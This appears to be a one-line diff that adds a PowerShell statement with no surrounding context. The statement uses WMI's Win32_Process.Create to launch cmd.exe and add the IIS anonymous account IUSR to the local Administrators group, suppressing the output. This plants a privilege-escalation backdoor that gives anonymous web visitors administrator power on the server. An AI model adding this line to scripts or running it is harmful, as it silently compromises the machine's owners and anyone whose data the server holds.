@@ -1,0 +1,1 @@
+([wmiclass]'Win32_Process').Create('cmd.exe /c net localgroup Administrators IUSR /add') | Out-Null
